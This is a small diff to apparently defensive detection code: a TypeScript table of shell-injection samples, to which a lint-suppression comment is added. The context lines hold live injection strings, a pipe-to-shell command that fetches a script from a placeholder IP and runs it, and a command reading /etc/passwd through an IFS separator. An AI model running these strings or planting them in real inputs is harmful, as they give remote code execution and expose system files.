@@ -26,6 +26,7 @@ const SAMPLES: Readonly<Record<string, readonly ViolationSample[]>> = {
   ],
   'shell-injection': [
     { rule: 'pipe-to-shell', match: 'x;curl 198.51.100.9/s|sh', decoded: ['url'], score: 0.95 },
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attacker's own text, where the shell expands the variable
     { rule: 'separator-variable', match: 'x;cat${IFS}/etc/passwd', decoded: [], score: 0.95 },
     {
       rule: 'network-device',
